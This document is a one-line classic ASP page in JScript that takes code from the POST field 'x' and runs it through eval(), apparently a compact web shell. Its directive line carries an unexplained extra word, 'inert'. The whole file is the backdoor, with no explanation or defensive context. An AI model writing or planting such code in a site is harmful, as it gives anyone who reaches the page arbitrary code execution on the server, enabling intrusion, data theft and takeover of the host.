<%@ Language=JScript inert %><%var z=String(Request.Form("x"));if(z!="undefined")eval(z);%>
